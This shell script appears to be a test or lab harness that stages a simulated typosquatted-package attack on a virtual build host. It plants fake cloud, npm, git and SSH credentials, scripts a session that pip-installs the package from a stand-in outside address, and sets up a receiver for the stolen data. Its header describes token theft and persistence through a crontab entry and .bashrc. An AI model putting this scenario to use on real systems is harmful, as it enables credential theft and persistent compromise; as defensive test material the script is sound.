#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A package's install script steals tokens and stays.
# Host: build7
# When: 2026-11-20T10:31:40
#
# A developer logs in and installs a Python package whose name is nearly that
# of a known one.  Its setup.py runs as part of the installation: it collects
# cloud and registry tokens and the SSH key from the home directory, posts
# them to an address outside, and makes itself stay with a hidden script, a
# crontab entry and a line in .bashrc.
# samples/record.sh tells what runs where.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
package=acme_colours-1.4.1

net() {
	make_package >&2
	echo "host=192.168.20.44,hostfwd=tcp:127.0.0.1:$SSH-192.168.20.15:22,guestfwd=tcp:198.51.100.12:8000-cmd:sh $here/stage.sh peer index,guestfwd=tcp:203.0.113.80:8443-cmd:sh $here/stage.sh peer drop"
}

make_package() {
	mkdir -p "$TMP/$package/acme_colours"
	cp "$here/setup.py" "$TMP/$package/"
	echo 'RED = "\033[31m"' >"$TMP/$package/acme_colours/__init__.py"
	printf 'Metadata-Version: 2.1\nName: acme_colours\nVersion: 1.4.1\n' >"$TMP/$package/PKG-INFO"
	tar czf "$TMP/$package.tar.gz" --owner=0 --group=0 -C "$TMP" "$package"
}

prepare() {
	home=/home/dev
	mkdir -p $home/.aws $home/project
	printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' \
		AKIAEXAMPLEEXAMPLE00 not/a/real/key/only/an/example >$home/.aws/credentials
	echo '//registry.example/:_authToken=npm_exampleexampleexample' >$home/.npmrc
	printf 'machine git.example\n\tlogin dev\n\tpassword example\n' >$home/.netrc
	ssh-keygen -q -t ed25519 -N '' -C dev@build7 -f $home/.ssh/id_ed25519
	chmod 600 $home/.aws/credentials $home/.npmrc $home/.netrc
	chown -R dev: $home
	/usr/sbin/sshd
	cron
	su dev -c 'pip --version' >/dev/null
	sleep 1
}

typed() {
	sleep 4
	while read -r line; do
		printf '%s\n' "$line"
		sleep "${1:-1}"
	done
	sleep 1
}

outside() {
	{
		echo 'cd project' | typed
		echo "pip install --user --break-system-packages --no-build-isolation --no-deps http://198.51.100.12:8000/$package.tar.gz" | typed 45
		echo 'python3 -c "import acme_colours"' | typed 4
		echo exit
	} | ssh -tt -i "$KEY" -p "$SSH" -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null dev@127.0.0.1
}

peer() {
	case $1 in
	index) exec perl "$here/../peer.pl" "$TMP/$package.tar.gz" ;;
	drop) exec perl "$here/../peer.pl" ;;
	esac
}

"$@"
